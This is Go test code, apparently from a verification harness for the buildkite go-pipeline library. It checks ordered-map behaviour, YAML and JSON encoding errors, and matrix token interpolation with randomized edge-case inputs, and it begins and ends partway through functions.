									c.Sample(map[string]any{"start": startName, "history": histString(hist), "layout": lay, "model_keys": modelKeys(p)})
								}
							}
							mu.Unlock()
						}
					}
				}(w)
			}
			wg.Wait()
			frontier = next
		}
	}
	c.Count("bfs_layouts", layoutsTotal)
	// All pairs of pooled maps: Equal must be model equality, both orders.
	for i := range pool {
		for j := range pool {
			want := modelsEqual(k, pool[i].p, pool[j].p)
			var got bool
			pi := run.Guard(func() { got = ordered.Equal(pool[i].m, pool[j].m) })
			if pi != nil {
				c.Violation(fmt.Sprintf("bfs-pool/%d-%d", i, j), map[string]any{"what": "Equal panics: " + pi.Value, "a": layoutOf(pool[i].m), "b": layoutOf(pool[j].m), "stack": pi.Stack})
				continue
			}
			if got != want {
				c.Violation(fmt.Sprintf("bfs-pool/%d-%d", i, j), map[string]any{"what": fmt.Sprintf("Equal=%v, model %v", got, want), "a": layoutOf(pool[i].m), "b": layoutOf(pool[j].m),
					"model_a": modelDoc(k, pool[i].p).String(), "model_b": modelDoc(k, pool[j].p).String()})
			}
			if want {
				c.Count("equal_pairs_equal", 1)
			} else {
				c.Count("equal_pairs_unequal", 1)
			}
		}
	}
	c.Eval(len(pool) * len(pool))
}

func modelKeys[V any](p *refmodel.PairList[V]) string {
	ks := make([]string, len(p.Items))
	for i, it := range p.Items {
		ks[i] = it.Key
	}
	return strings.Join(ks, ",")
}

func c05Random[V any](c *run.Ctx, k omKind[V], phase string) {
	n := c.N(150, 3000)
	nops := 2000
	c.Parallel(phase, n, func(i int, r *rand.Rand) {
		var alphabet []string
		fullEvery := 1
		switch i % 4 {
		case 3:
			// keys that look like other YAML/JSON types or need quoting
			alphabet = []string{"", "1", "007", "true", "~", "a b", "0x10", "é", "null", "1.50", "- x", "k: v", "\x1b[0m", "bell\a", "\v", "del\x7f", "nul\x00", "tag\U000e0001", "<&>"}
			fullEvery = 2
		case 0:
			alphabet = []string{"a", "b", "c", "d"}
		case 1:
			for j := 0; j < 16; j++ {
				alphabet = append(alphabet, fmt.Sprintf("k%d", j))
			}
			fullEvery = 8
		default:
			for j := 0; j < 200; j++ {
				alphabet = append(alphabet, fmt.Sprintf("k%d", j))
			}
			fullEvery = 128
		}
		var m *ordered.Map[string, V]
		p := &refmodel.PairList[V]{}
		serial := 0
		nextVal := func() V { serial++; return k.mkVal(r, serial) }
		// a map built from a caller-owned slice of pairs (possibly with a repeated key), and a sibling built from the
		// same slice: neither the slice nor the sibling may change when m is operated on
		var src, srcCopy []ordered.Tuple[string, V]
		var sib *ordered.Map[string, V]
		var sibModel *refmodel.PairList[V]
		switch r.IntN(4) {
		case 0:
			m = new(ordered.Map[string, V])
		case 1:
			m = ordered.NewMap[string, V](r.IntN(4))
		case 2:
			m = ordered.MapFromItems[string, V]()
		default:
			dup := false
			seen := map[string]bool{}
			for j, n := 0, 1+r.IntN(6); j < n; j++ {
				key := alphabet[r.IntN(len(alphabet))]
				if seen[key] {
					if r.IntN(2) == 0 {
						continue
					}
					dup = true
				}
				seen[key] = true
				src = append(src, ordered.Tuple[string, V]{Key: key, Value: nextVal()})
			}
			src = src[:len(src):len(src)]
			srcCopy = append(srcCopy, src...)
			m = ordered.MapFromItems(src...)
			sib = ordered.MapFromItems(src...)
			if dup {
				// what a repeated key means is not specified: the model is what iteration shows, and every
				// other observer has to agree with it (keys distinct and taken from the given ones)
				bad := ""
				_ = rangeSafe(m, func(key string, v V) error {
					if _, has := p.Get(key); has || !seen[key] {
						bad = fmt.Sprintf("MapFromItems with a repeated key: iteration yields key %q twice or a key that was not given", key)
					}
					p.Set(key, v)
					return nil
				})
				if bad == "" && p.Len() != len(seen) {
					bad = fmt.Sprintf("MapFromItems with a repeated key: iteration yields %d pairs, %d distinct keys were given", p.Len(), len(seen))
				}
				if bad != "" {
					c.Violation(run.CaseID(phase, i), map[string]any{"what": bad, "layout": layoutOf(m), "given_pairs": len(src)})
					return
				}
				c.Count("maps_built_from_items_with_repeated_key", 1)
			} else {
				for _, t := range src {
					p.Set(t.Key, t.Value)
				}
			}
			sibModel = p.Clone()
			c.Count("maps_built_from_a_caller_owned_slice", 1)
			if msg := observe(c, k, m, p, alphabet, true, r); msg != "" {
				c.Violation(run.CaseID(phase, i), map[string]any{"what": "right after MapFromItems: " + msg, "layout": layoutOf(m), "given_pairs": len(src)})
				return
			}
		}
		checkSibling := func(step int) bool {
			if sib == nil {
				return true
			}
			for j := range src {
				if src[j].Key != srcCopy[j].Key || !valEq(k, src[j].Value, srcCopy[j].Value) {
					c.Violation(run.CaseID(phase, i), map[string]any{"what": fmt.Sprintf("operating on a map built with MapFromItems changed the caller's slice of pairs at index %d (%q -> %q)", j, srcCopy[j].Key, src[j].Key), "step": step})
					return false
				}
			}
			if msg := observe(c, k, sib, sibModel, alphabet, true, r); msg != "" {
				c.Violation(run.CaseID(phase, i), map[string]any{"what": "a second map built from the same slice of pairs changed while only the first was operated on: " + msg, "step": step, "layout_sibling": layoutOf(sib)})
				return false
			}
			return true
		}
		type snap struct {
			m *ordered.Map[string, V]
			p *refmodel.PairList[V]
		}
		var hist []omOp
		deleteHeavy := false
		for step := 0; step < nops; step++ {
			if step%97 == 0 {
				deleteHeavy = r.IntN(2) == 0
			}
			var op omOp
			x := r.IntN(100)
			a, b := alphabet[r.IntN(len(alphabet))], alphabet[r.IntN(len(alphabet))]
			switch {
			case x < 1:
				op = omOp{Kind: []string{"rr-id", "rr-rot", "rr-one", "rr-last", "rr-fresh"}[r.IntN(5)]}
				if op.Kind == "rr-fresh" && len(alphabet) > 16 {
					op.Kind = "rr-rot"
				}
			case deleteHeavy && x < 60, !deleteHeavy && x < 25:
				op = omOp{Kind: "delete", A: a}
			case x < 75:
				op = omOp{Kind: "set", A: a}
			default:
				if r.IntN(5) == 0 {
					b = a
				}
				op = omOp{Kind: "replace", A: a, B: b}
			}
			if len(hist) < 64 {
				hist = append(hist, op)
			}
			slotsBefore, _, _, _ := m.VerifState()
			msg := applyOp(m, p, op, alphabet, nextVal)
			if op.Kind == "rr-fresh" {
				// keep the alphabet closed: rename the primed keys back
				for _, it := range append([]refmodel.PLItem[V](nil), p.Items...) {
					if strings.HasSuffix(it.Key, "'") {
						v := nextVal()
						m.Replace(it.Key, strings.TrimSuffix(it.Key, "'"), v)
						p.Replace(it.Key, strings.TrimSuffix(it.Key, "'"), v)
					}
				}
			}
			full := step%fullEvery == 0 || step == nops-1
			if msg == "" {
				msg = observe(c, k, m, p, alphabet, full, r)
			}
			if msg == "" && (step < 12 || step == nops-1) && !checkSibling(step) {
				return
			}
			c.Count("random_ops", 1)
			if msg != "" {
				c.Violation(run.CaseID(phase, i), map[string]any{"what": msg, "step": step, "op": op.String(), "first_ops": histString(hist), "layout": layoutOf(m), "alphabet": len(alphabet)})
				return
			}
			slotsAfter, _, tomb, _ := m.VerifState()
			if slotsAfter < slotsBefore {
				c.Count("compactions_observed", 1)
			}
			c.Max("max_tombstones", int64(tomb))
			if len(alphabet) <= 4 && p.Len() > 0 {
				c.Feature(phase, modelKeys(p), layoutOf(m))
			}
		}
		c.Eval(1)
		if len(alphabet) > 4 {
			c.Feature(phase, i)
		}
		if c.WantSample() {
			c.Sample(map[string]any{"phase": phase, "alphabet": len(alphabet), "first_ops": histString(hist), "final_keys": p.Len(), "final_layout_slots": len(m.VerifSlots())})
		}
	})
}

// c05Unencodable is a value that refuses to be encoded, by either encoder.
type c05Unencodable struct{}

func (c05Unencodable) MarshalYAML() (any, error) { return nil, errors.New("c05: value refuses YAML") }
func (c05Unencodable) MarshalJSON() ([]byte, error) {
	return nil, errors.New("c05: value refuses JSON")
}

// c05EncError: a map one of whose values cannot be encoded (directly, inside an inner ordered map, inside an
// inner ordered map held by a list) either fails to encode or encodes every pair; an output without an
// error that lacks the pair disagrees with Len, Get and Range, which still report it.
func c05EncError(c *run.Ctx) {
	n := 0
	for size := 1; size <= 7; size++ {
		for pos := 0; pos < size; pos++ {
			for mode := 0; mode < 3; mode++ {
				caseID := run.CaseID("encerr", n)
				n++
				m := ordered.NewMap[string, any](0)
				for i := 0; i < size; i++ {
					if i != pos {
						m.Set(fmt.Sprintf("k%d", i), i)
						continue
					}
					switch mode {
					case 0:
						m.Set("badkey", c05Unencodable{})
					case 1:
						in := ordered.NewMap[string, any](0)
						in.Set("before", 1)
						in.Set("badkey", c05Unencodable{})
						in.Set("after", 2)
						m.Set("inner", in)
					default:
						in := ordered.NewMap[string, any](0)
						in.Set("badkey", c05Unencodable{})
						in.Set("after", 2)
						m.Set("list", []any{1, in, "x"})
					}
				}
				var yb, jb []byte
				var yerr, jerr, derr error
				var direct any
				pi := run.Guard(func() {
					direct, derr = m.MarshalYAML()
					yb, yerr = yaml.Marshal(m)
					jb, jerr = json.Marshal(m)
				})
				c.Eval(1)
				c.Feature(size, pos, mode)
				if pi != nil {
					c.Violation(caseID, map[string]any{"what": "panic while encoding a map with an unencodable value: " + pi.Value, "stack": pi.Stack})
					continue
				}
				if mode == 0 && derr == nil {
					if nd, ok := direct.(*yaml.Node); ok && len(nd.Content) != 2*m.Len() {
						c.Violation(caseID, map[string]any{"what": fmt.Sprintf("MarshalYAML returned no error and %d of %d pairs (value %d of %d cannot be encoded)", len(nd.Content)/2, m.Len(), pos, size)})
					}
				}
				if yerr == nil && !strings.Contains(string(yb), "badkey") {
					c.Violation(caseID, map[string]any{"what": fmt.Sprintf("yaml.Marshal returned no error and an output without the pair whose value cannot be encoded (mode %d, position %d of %d)", mode, pos, size), "output": string(yb)})
				}
				if jerr == nil && !strings.Contains(string(jb), "badkey") {
					c.Violation(caseID, map[string]any{"what": fmt.Sprintf("json.Marshal returned no error and an output without the pair whose value cannot be encoded (mode %d, position %d of %d)", mode, pos, size), "output": string(jb)})
				}
				if yerr != nil {
					c.Count("yaml_encodings_refused_with_an_error", 1)
				}
				if jerr != nil {
					c.Count("json_encodings_refused_with_an_error", 1)
				}
			}
		}
	}
}
