package main

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"

	pipeline "github.com/buildkite/go-pipeline"
	"github.com/buildkite/go-pipeline/ordered"
	"github.com/google/go-cmp/cmp"

	"verif/refmodel"
	"verif/run"
	"verif/util"
)

func init() { register("C12", checkC12) }

// Strings that look like tokens but are not (the scanner must leave them).
var c12NearMisses = []string{
	"{{matrix.}}", "{{ matrix .a}}", "{{ matrix. a}}", "{matrix}", "{{matrixx}}", "{{Matrix}}", "{{MATRIX.a}}", "{{matri}}", "{{ matrix }", "{ {matrix}}",
	"{{matrix}", "{{matrix.a}", "{{matrix,a}}", "{{matrix:a}}", "{{matrix.a b}}", "{{}}", "{{ }}",
	"{{matrix.a/b}}", "{{matrix.é}}", "{{matrix.a$}}", "$matrix", "${matrix}", "{{env.X}}", "{{matrix. }}", "{{matrix .}}", "{{x",
}

// Strings that embed a real token in a misleading context (usually naming a
// dimension the permutation lacks, so the call must fail).
var c12Embedded = []string{
	"{{{matrix}}}", "{{matrix..}}", "{{matrix.-}}", "{{matrix.a }}", "{{ matrix}}", "{{matrix.a}}}", "{{{{matrix}}}}", "{{matrix.a.b}}", "{{matrix._}}", "{{\fmatrix}}",
}

// c12Spec is a step description whose strings are all listed, so that the
// expected step can be built by mapping a function over the in-scope ones.
type c12Spec struct {
	Command, Label, Key string
	EnvNames, EnvVals   []string
	PlugSources         []string
	PlugCfg             []c12Val // one per plugin
	Extras              []c12KV
	MatrixExtra         string
	AdjExtra            string
	Cache               string
	SigValue            string
	SetupPad            int // extra setup values per dimension, in no particular order
}

type c12KV struct {
	K string
	V c12Val
}

// c12Val is a tiny value tree: string, list or map.
type c12Val struct {
	S    *string
	List []c12Val
	Map  []c12KV
	Num  *int
	Ord  bool // build the mapping as an ordered map instead of a plain Go map
}

func (v c12Val) build(f func(string) string) any {
	switch {
	case v.S != nil:
		return f(*v.S)
	case v.Num != nil:
		return *v.Num
	case v.List != nil:
		out := make([]any, len(v.List))
		for i, e := range v.List {
			out[i] = e.build(f)
		}
		return out
	case v.Map != nil && v.Ord:
		// an ordered map, as a decoded document carries them (used by the unknown-token-in-a-key cases only)
		out := ordered.NewMap[string, any](len(v.Map))
		for _, kv := range v.Map {
			out.Set(f(kv.K), kv.V.build(f))
		}
		return out
	case v.Map != nil:
		out := make(map[string]any, len(v.Map))
		for _, kv := range v.Map {
			out[f(kv.K)] = kv.V.build(f)
		}
		return out
	}
	return nil
}

func id(s string) string { return s }

// build makes the step, passing in-scope strings through f.
func (sp c12Spec) build(f func(string) string, perm map[string]string) *pipeline.CommandStep {
	st := &pipeline.CommandStep{
		Command: f(sp.Command),
		Label:   f(sp.Label),
		Key:     sp.Key, // out of scope
		Env:     map[string]string{},
	}
	for i, n := range sp.EnvNames {
		st.Env[n] = f(sp.EnvVals[i]) // names out of scope, values in scope
	}
	for i, src := range sp.PlugSources {
		st.Plugins = append(st.Plugins, &pipeline.Plugin{Source: f(src), Config: sp.PlugCfg[i].build(f)})
	}
	st.RemainingFields = map[string]any{}
	for _, kv := range sp.Extras {
		st.RemainingFields[f(kv.K)] = kv.V.build(f)
	}
	// Matrix: makes the permutation valid; never interpolated.
	m := &pipeline.Matrix{Setup: pipeline.MatrixSetup{}, RemainingFields: map[string]any{"mx": sp.MatrixExtra}}
	for d, v := range perm {
		m.Setup[d] = []string{"other", v}
		for k := sp.SetupPad; k > 0; k-- {
			// descending, with the permutation's value somewhere in the middle
			m.Setup[d] = append(m.Setup[d], fmt.Sprintf("pad-%03d", (k*37)%101))
			if k == sp.SetupPad/2 {
				m.Setup[d] = append(m.Setup[d], "zz-late")
			}
		}
	}
	if len(perm) > 0 {
		w := pipeline.MatrixAdjustmentWith{}
		for d := range perm {
			w[d] = "adj-" + sp.AdjExtra
		}
		m.Adjustments = pipeline.MatrixAdjustments{{With: w, RemainingFields: map[string]any{"soft_fail": sp.AdjExtra}}}
	}
	st.Matrix = m
	st.Signature = &pipeline.Signature{Algorithm: "EdDSA", SignedFields: []string{"command", sp.SigValue}, Value: sp.SigValue}
	return st
}

func checkC12(c *run.Ctx) {
	n := c.N(40000, 1500000)
	dimAlphabet := "abcXYZ019_.-"
	c.Parallel("tok", n, func(i int, r *rand.Rand) {
		// Permutation.
		perm := map[string]string{}
		anon := r.IntN(4) == 0
		if anon {
			perm[""] = c12Value(r)
		} else {
			for k, nd := 0, 1+r.IntN(3); k < nd; k++ {
				var b strings.Builder
				for j, l := 0, 1+r.IntN(4); j < l; j++ {
					b.WriteByte(dimAlphabet[r.IntN(len(dimAlphabet))])
				}
				perm[b.String()] = c12Value(r)
			}
			if r.IntN(12) == 0 {
				// dimension names that contain the keyword itself, next to their own prefixes and suffixes
				for _, dn := range [][]string{{"test_matrix"}, {"matrix_os", "os"}, {"arch", "archmatrix"}, {"matrix", "matrix.matrix"}, {"arch", "matrixarch"}}[r.IntN(5)] {
					perm[dn] = c12Value(r)
				}
			}
		}
		dims := refmodel.SortedKeys(perm)
		// a chain inside one Go map: a key that is exactly the token of one dimension, whose value in the permutation
		// is exactly the token of another dimension, next to a key that is that other token (single pass: the first key
		// becomes the second one's old spelling, the second becomes its own dimension's value)
		chain := !anon && len(dims) >= 2 && i%10 != 9 && i%7 == 0
		if chain {
			perm[dims[0]] = "{{matrix." + dims[1] + "}}"
			if v := perm[dims[1]]; v == "{{matrix."+dims[0]+"}}" || v == "{{matrix."+dims[1]+"}}" || v == "" {
				perm[dims[1]] = "end-of-chain"
			}
		}
		unknownMode := i%10 == 9 // plant a token naming a dimension the permutation lacks
		uid := 0
		planted := ""
		str := func(class string) string {
			uid++
			parts := 1 + r.IntN(4)
			var b strings.Builder
			for p := 0; p < parts; p++ {
				switch r.IntN(6) {
				case 0, 1:
					d := dims[r.IntN(len(dims))]
					ws := []string{"", " ", "  ", "\t", "\n", " \t "}
					if d == "" {
						b.WriteString("{{" + ws[r.IntN(len(ws))] + "matrix" + ws[r.IntN(len(ws))] + "}}")
					} else {
						b.WriteString("{{" + ws[r.IntN(len(ws))] + "matrix." + d + ws[r.IntN(len(ws))] + "}}")
					}
					c.Count("tokens_planted_"+class, 1)
				case 2:
					if r.IntN(40) == 0 {
						b.WriteString(c12Embedded[r.IntN(len(c12Embedded))])
						c.Count("embedded_tokens_planted", 1)
					} else {
						b.WriteString(c12NearMisses[r.IntN(len(c12NearMisses))])
						c.Count("near_misses_planted", 1)
					}
				case 3:
					b.WriteString([]string{"$X", "${Y}", `\$Z`, "$$", "a b", "é", "{", "}", "{{", "}}"}[r.IntN(10)])
				default:
					b.WriteString("txt")
				}
			}
			return fmt.Sprintf("%s#%d", b.String(), uid)
		}
		strv := func(class string) c12Val { s := str(class); return c12Val{S: &s} }
		var val func(class string, depth int) c12Val
		val = func(class string, depth int) c12Val {
			switch x := r.IntN(6); {
			case x == 0 && depth < 3:
				l := []c12Val{}
				for k, m := 0, r.IntN(4); k < m; k++ {
					l = append(l, val(class, depth+1))
				}
				return c12Val{List: l}
			case x == 1 && depth < 3:
				m := []c12KV{}
				sz := r.IntN(4)
				if r.IntN(6) == 0 {
					sz = 9 + r.IntN(8) // beyond the small-map threshold, keys get renamed
					c.Count("maps_over_8_with_token_keys", 1)
				}
				for k := 0; k < sz; k++ {
					m = append(m, c12KV{K: str(class + "_key"), V: val(class, depth+1)})
				}
				return c12Val{Map: m}
			case x == 2:
				n := r.IntN(100)
				return c12Val{Num: &n}
			}
			return strv(class)
		}
		sp := c12Spec{Command: str("command"), Label: str("label"), Key: str("key_outofscope"),
			MatrixExtra: str("matrix_outofscope"), AdjExtra: str("matrix_outofscope"), SigValue: str("signature_outofscope")}
		if i%9 == 4 {
			// dimensions with 24 to 90 values in no particular order: validation reads the matrix, it does not rearrange it
			sp.SetupPad = []int{21, 22, 23, 30, 64, 88}[r.IntN(6)]
			c.Count("steps_with_dimensions_of_23_and_more_values", 1)
		}
		nenv, nplug := r.IntN(4), r.IntN(3)
		if i%12 == 0 {
			// a large step: 17-40 plugins and env entries together
			nenv, nplug = 5+r.IntN(20), 8+r.IntN(16)
			c.Count("large_steps_17_or_more_plugins_and_env", 1)
		}
		for k, m := 0, nenv; k < m; k++ {
			sp.EnvNames = append(sp.EnvNames, str("envname_outofscope"))
			sp.EnvVals = append(sp.EnvVals, str("envvalue"))
		}
		for k, m := 0, nplug; k < m; k++ {
			sp.PlugSources = append(sp.PlugSources, str("pluginsource"))
			sp.PlugCfg = append(sp.PlugCfg, val("pluginconfig", 0))
		}
		for k, m := 0, r.IntN(4); k < m; k++ {
			sp.Extras = append(sp.Extras, c12KV{K: str("extra_key"), V: val("extra", 0)})
		}
		if chain {
			va, vb := "first", "second"
			sp.Extras = append(sp.Extras, c12KV{K: "{{matrix." + dims[0] + "}}", V: c12Val{S: &va}}, c12KV{K: "{{matrix." + dims[1] + "}}", V: c12Val{S: &vb}})
			sp.PlugSources = append(sp.PlugSources, "chain#v1")
			sp.PlugCfg = append(sp.PlugCfg, c12Val{Map: []c12KV{{K: "{{matrix." + dims[1] + "}}", V: c12Val{S: &vb}}, {K: "{{matrix." + dims[0] + "}}", V: c12Val{S: &va}}, {K: "plain", V: c12Val{S: &va}}}})
			c.Count("token_key_chains_planted", 1)
		}
		if i%67 == 3 {
			// strings of 64 KiB and beyond (an embedded certificate, a script) with tokens at both ends, in every
			// container position: env value, plugin config value, list element and nested value of an unknown field
			long := func() c12Val {
				d := dims[r.IntN(len(dims))]
				t := "{{matrix." + d + "}}"
				if d == "" {
					t = "{{matrix}}"
				}
				uid++
				s := t + strings.Repeat("p", []int{65535, 65536, 65537, 70000, 200000}[r.IntN(5)]-len(t)) + t + fmt.Sprintf("#%d", uid)
				return c12Val{S: &s}
			}
			sp.EnvNames = append(sp.EnvNames, "LONG_VALUE")
			sp.EnvVals = append(sp.EnvVals, *long().S)
			sp.PlugSources = append(sp.PlugSources, "long#v1")
			sp.PlugCfg = append(sp.PlugCfg, c12Val{Map: []c12KV{{K: "cert", V: long()}, {K: "list", V: c12Val{List: []c12Val{long()}}}}})
			sp.Extras = append(sp.Extras, c12KV{K: "long_extra", V: c12Val{Map: []c12KV{{K: "nested", V: c12Val{List: []c12Val{long()}}}}}})
			c.Count("steps_with_strings_of_64KiB_and_beyond", 1)
		}
		if unknownMode {
			tok := "{{matrix.nosuchdim}}"
			if !anon && r.IntN(2) == 0 {
				tok = "{{matrix}}"
			}
			switch r.IntN(8) {
			case 6:
				// in the key of a pair whose value interpolates cleanly, inside a plugin configuration (an ordered map)
				s := "clean"
				sp.PlugSources = append(sp.PlugSources, "pk")
				sp.PlugCfg = append(sp.PlugCfg, c12Val{Ord: i%20 == 9, Map: []c12KV{{K: "a", V: c12Val{S: &s}}, {K: "k" + tok, V: c12Val{S: &s}}, {K: "z", V: c12Val{S: &s}}}})
				planted = "pluginconfig_key"
			case 7:
				// in the key of a mapping nested below an unknown field of the step
				s := "clean"
				sp.Extras = append(sp.Extras, c12KV{K: "xnested", V: c12Val{Ord: i%20 == 9, Map: []c12KV{{K: "first", V: c12Val{S: &s}}, {K: tok, V: c12Val{List: []c12Val{{S: &s}}}}}}})
				planted = "extra_nested_key"
			case 0:
				sp.Command += tok
				planted = "command"
			case 1:
				sp.Label += tok
				planted = "label"
			case 2:
				sp.EnvNames = append(sp.EnvNames, "N")
				sp.EnvVals = append(sp.EnvVals, tok)
				planted = "envvalue"
			case 3:
				sp.PlugSources = append(sp.PlugSources, "p"+tok)
				sp.PlugCfg = append(sp.PlugCfg, c12Val{})
				planted = "pluginsource"
			case 4:
				s := tok
				sp.PlugSources = append(sp.PlugSources, "p")
				sp.PlugCfg = append(sp.PlugCfg, c12Val{Map: []c12KV{{K: "k", V: c12Val{List: []c12Val{{S: &s}}}}}})
				planted = "pluginconfig"
			default:
				s := "v"
				sp.Extras = append(sp.Extras, c12KV{K: "xk" + tok, V: c12Val{S: &s}})
				planted = "extra_key"
			}
		}
		caseID := run.CaseID("tok", i)
		step := sp.build(id, perm)
		c.Eval(1)
		c.Feature(len(dims), anon, len(sp.PlugSources), len(sp.Extras), len(sp.EnvNames), unknownMode, planted)

		// (a) an empty permutation on a matrix-less twin changes nothing
		if i%5 == 0 {
			tw := sp.build(id, perm)
			tw.Matrix = nil
			ref := util.DeepCopy(tw)
			var err error
			if pi := run.Guard(func() { err = tw.InterpolateMatrixPermutation(pipeline.MatrixPermutation{}) }); pi != nil {
				c.Violation(caseID, map[string]any{"what": "panic on empty permutation: " + pi.Value, "stack": pi.Stack})
				return
			}
			if err != nil || !cmp.Equal(tw, ref) {
				c.Violation(caseID, map[string]any{"what": fmt.Sprintf("empty permutation: err=%v, step changed=%v", err, !cmp.Equal(tw, ref)), "diff": cmp.Diff(ref, tw)})
				return
			}
			c.Count("empty_permutation_checks", 1)
		}

		mp := pipeline.MatrixPermutation{}
		for k, v := range perm {
			mp[k] = v
		}
		if len(caseID)%3 == 0 {
			// marshalled before it is interpolated (an agent may log the step first): observers change nothing
			_, _ = safeJSONMarshal(step)
			_, _ = safeYAMLMarshal(step)
		}
		var err error
		if pi := run.Guard(func() { err = step.InterpolateMatrixPermutation(mp) }); pi != nil {
			c.Violation(caseID, map[string]any{"what": "panic: " + pi.Value, "stack": pi.Stack, "permutation": perm})
			return
		}
		nUnknown := 0
		scan := func(s string) string {
			out, unk, ntok := refmodel.MatrixTokens(s, perm)
			if ntok > 0 {
				c.Count("tokens_seen_by_model", ntok)
			}
			nUnknown += len(unk)
			return out
		}
		want := sp.build(scan, perm)
		if nUnknown > 0 {
			c.Count("cases_with_unknown_dimension_token", 1)
			if planted != "" {
				c.Count("unknown_dimension_token_at_"+planted, 1)
			}
			if err == nil {
				js, _ := json.Marshal(step)
				c.Violation(caseID, map[string]any{"what": "a token naming a dimension the permutation lacks did not make the call fail (planted at: " + planted + ")", "permutation": perm, "step_after": string(js)})
			}
			return
		}
		if err != nil {
			c.Violation(caseID, map[string]any{"what": "valid permutation rejected: " + err.Error(), "permutation": perm})
			return
		}
		c.Count("cases_compared_with_scanner", 1)
		if !cmp.Equal(step, want) {
			c.Violation(caseID, map[string]any{"what": "step after matrix interpolation differs from single-pass token replacement restricted to the documented scope", "permutation": perm, "diff_want_got": cmp.Diff(want, step)})
			return
		}
		if c.WantSample() {
			c.Sample(map[string]any{"permutation": perm, "command_before": sp.Command, "command_after": step.Command})
		}
	})
	c12ParsedPhase(c)
	c.Finish("exploration",
		"random command steps built from a specification listing every string; tokens (with inner whitespace), near misses and plain text are planted at every position class (command, label, plugin sources, plugin config keys/values at depth incl. maps of 9-16 entries whose keys are renamed, env values, extra keys/values) and in out-of-scope positions (env names, key, matrix, signature); dimension names over [A-Za-z0-9_.-]; permutation values include token-shaped and $-bearing strings; every tenth case plants a token for a missing dimension; the expected step is the specification mapped through a hand-written single-pass scanner. a second phase parses YAML documents in which anchored values carrying tokens are referenced by several aliases in unknown fields of one and of several steps, interpolates the steps in a random order and compares each with the scanner applied to the JSON form of a pristine twin, immediately and again after all siblings were interpolated. distinct_nontrivial counts distinct (dimension count, anonymous, plugins, extras, env entries, unknown-token position) shapes",
		nil,
		[]string{"whether `cache` is in scope is not asserted", "atomicity on the unknown-token failure is not asserted", "whitespace inside braces is the ASCII set space, tab, LF, CR, FF"})
}

func c12Value(r *rand.Rand) string {
	pool := []string{"linux", "x", "", "{{matrix}}", "{{matrix.a}}", "{{ matrix.b }}", "$HOME", `a\b`, "v1.2-rc_3", "with space", "{{", "}}", "é😀", "line\nbreak",
		// white space around a value is part of the value
		" padded ", "trailing newline\n", "  ", "\ttab", "nbsp\u00a0"}
	return pool[r.IntN(len(pool))]
}
