package main

import (
	"fmt"
	"github.com/buildkite/go-pipeline/warning"
	"math/rand/v2"
	"reflect"
	"sort"
	"strings"

	"github.com/buildkite/go-pipeline/ordered"
	"gopkg.in/yaml.v3"

	"verif/doc"
	"verif/run"
)

func init() { register("C16", checkC16) }

type c16Field struct {
	Name    string
	Key     string // yaml key; "" = untagged (lower-cased field name)
	Skip    bool   // yaml:"-"
	Aliases []string
	Kind    string
	Sub     *c16Type
	Omit    bool
}

func (f c16Field) key() string {
	if f.Key != "" {
		return f.Key
	}
	return strings.ToLower(f.Name)
}

type c16Type struct {
	Fields    []c16Field
	Inline    string // "", "map", "struct", "*struct"
	InlineSub *c16Type
	InlineAt  int
	rt        reflect.Type
}

var c16Kinds = []string{"string", "int", "float", "bool", "[]string", "[]int", "[]any", "map[string]string", "map[string]any", "any", "struct", "*struct"}

var (
	tString = reflect.TypeOf("")
	tInt    = reflect.TypeOf(0)
	tFloat  = reflect.TypeOf(0.0)
	tBool   = reflect.TypeOf(false)
	tAny    = reflect.TypeOf((*any)(nil)).Elem()
)

func (t *c16Type) goType() reflect.Type {
	if t.rt != nil {
		return t.rt
	}
	var sf []reflect.StructField
	add := func(name string, typ reflect.Type, tag string) {
		sf = append(sf, reflect.StructField{Name: name, Type: typ, Tag: reflect.StructTag(tag)})
	}
	for i, f := range t.Fields {
		if t.Inline != "" && t.InlineAt == i {
			t.addInline(add)
		}
		var typ reflect.Type
		switch f.Kind {
		case "string":
			typ = tString
		case "int":
			typ = tInt
		case "float":
			typ = tFloat
		case "bool":
			typ = tBool
		case "[]string":
			typ = reflect.SliceOf(tString)
		case "[]int":
			typ = reflect.SliceOf(tInt)
		case "[]any":
			typ = reflect.SliceOf(tAny)
		case "map[string]string":
			typ = reflect.MapOf(tString, tString)
		case "map[string]any":
			typ = reflect.MapOf(tString, tAny)
		case "any":
			typ = tAny
		case "struct":
			typ = f.Sub.goType()
		case "*struct":
			typ = reflect.PointerTo(f.Sub.goType())
		}
		tag := ""
		switch {
		case f.Skip:
			tag = `yaml:"-"`
		case f.Key != "" && f.Omit:
			tag = fmt.Sprintf(`yaml:"%s,omitempty"`, f.Key)
		case f.Key != "":
			tag = fmt.Sprintf(`yaml:"%s"`, f.Key)
		case f.Omit:
			tag = `yaml:",omitempty"`
		}
		if len(f.Aliases) > 0 {
			tag += fmt.Sprintf(` aliases:"%s"`, strings.Join(f.Aliases, ","))
		}
		add(f.Name, typ, strings.TrimSpace(tag))
	}
	if t.Inline != "" && t.InlineAt >= len(t.Fields) {
		t.addInline(add)
	}
	t.rt = reflect.StructOf(sf)
	return t.rt
}

func (t *c16Type) addInline(add func(string, reflect.Type, string)) {
	switch t.Inline {
	case "map":
		add("Rest", reflect.MapOf(tString, tAny), `yaml:",inline"`)
	case "struct":
		add("Rest", t.InlineSub.goType(), `yaml:",inline"`)
	case "*struct":
		add("Rest", reflect.PointerTo(t.InlineSub.goType()), `yaml:",inline"`)
	}
}

type c16Gen struct {
	r         *rand.Rand
	n         int
	names     map[string]bool // all keys and aliases used anywhere in the type family (kept disjoint)
	aliasFree bool
}

func (g *c16Gen) freshKey() string {
	for {
		g.n++
		k := fmt.Sprintf("%s%d", []string{"k", "key_", "x-", "Cap", "snake_case_"}[g.r.IntN(5)], g.n)
		if g.r.IntN(6) == 0 {
			// long keys: 30 to 130 characters (generated configuration, namespaced settings)
			if l := []int{30, 31, 32, 33, 40, 64, 65, 130}[g.r.IntN(8)]; l > len(k)+1 {
				k += "_" + strings.Repeat("l", l-len(k)-1)
			}
		}
		if !g.names[k] {
			g.names[k] = true
			return k
		}
	}
}

func (g *c16Gen) typ(depth int, allowInline bool) *c16Type {
	t := &c16Type{}
	nf := 1 + g.r.IntN(6)
	for i := 0; i < nf; i++ {
		g.n++
		f := c16Field{Name: fmt.Sprintf("F%d", g.n)}
		if g.r.IntN(10) == 0 {
			f.Name += strings.Repeat("Long", 8+g.r.IntN(3)) // an untagged field is addressed by its lower-cased name, however long
		}
		f.Kind = c16Kinds[g.r.IntN(len(c16Kinds))]
		if depth >= 2 && (f.Kind == "struct" || f.Kind == "*struct") {
			f.Kind = "string"
		}
		switch g.r.IntN(8) {
		case 0:
